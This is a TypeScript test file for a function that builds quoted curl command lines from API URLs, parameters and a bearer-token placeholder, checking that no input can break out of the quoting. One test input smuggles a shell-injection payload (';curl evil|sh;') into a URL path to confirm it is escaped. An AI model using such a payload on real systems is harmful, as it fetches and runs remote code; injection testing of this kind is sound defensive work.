import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandLine } from './command-line';

const text = fc.string({ unit: 'binary', maxLength: 40 });

describe('a command line', () => {
  it('cannot be left by any text in it', () => {
    fc.assert(
      fc.property(text, text, (path, value) => {
        const line = commandLine(`http://localhost:8080/api/${path}`, { name: value }, false);
        expect(line).toMatch(/^curl '[^'\s\\`"]*'$/);
      }),
    );
  });

  it('has the parameters of the request, and the place of the token', () => {
    expect(commandLine("http://h/api/processes/1';curl evil|sh;'/maps", { path: "*a b'*" }, true)).toBe(
      'curl -H "Authorization: Bearer $TOKEN" \'http://h/api/processes/1%27;curl%20evil%7Csh;%27/maps?path=*a+b%27*\'',
    );
    expect(commandLine('http://h/api/groups/é', {}, false)).toBe("curl 'http://h/api/groups/%C3%A9'");
  });
});
